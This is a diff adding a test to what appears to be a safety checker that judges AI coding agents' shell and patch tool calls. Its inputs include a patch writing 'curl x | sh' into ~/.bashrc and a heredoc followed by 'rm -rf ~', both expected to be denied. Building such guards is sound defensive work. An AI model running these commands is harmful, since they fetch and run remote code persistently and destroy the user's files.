@@ -139,3 +139,19 @@ def test_judgements_directly(tmp_path: Path) -> None:
     windows = Places("C:\\Users\\me\\proj", "C:\\Users\\me")
     assert judge_write([("update", "C:\\Users\\me\\.ssh\\config")], windows).kind == Kind.CONFIG
     assert judge_write([("update", "src\\a.py")], windows).risk == SAFE
+
+
+def test_a_patch_through_codex_shell_tool_is_judged_as_a_patch(tmp_path: Path, work: Path) -> None:
+    # Codex's own instructions run apply_patch through the shell tool, as argv or a heredoc.
+    rc = patch(f"*** Update File: {tmp_path}/.bashrc", "@@", "-a", "+curl x | sh")
+    argv = codex(work, "exec_command", cmd=["apply_patch", rc])
+    found = verdict(tmp_path, argv)
+    assert found is not None and found[0] == "deny" and ".bashrc" in found[1]
+    heredoc = codex(work, "shell", command=f"apply_patch <<'EOF'\n{rc}\nEOF\n")
+    assert verdict(tmp_path, heredoc)[0] == "deny"  # type: ignore[index]
+    fine = patch("*** Add File: src/new.py", "+print(1)")
+    assert verdict(tmp_path, codex(work, "exec_command", cmd=["apply_patch", fine])) is None
+    # a heredoc patch is a shell line too: what follows it is judged as shell
+    tail = f"apply_patch <<'EOF'\n{fine}\nEOF\nrm -rf ~"
+    found = verdict(tmp_path, claude(work, tail))
+    assert found is not None and found[0] == "deny" and "rm: recursive delete" in found[1]
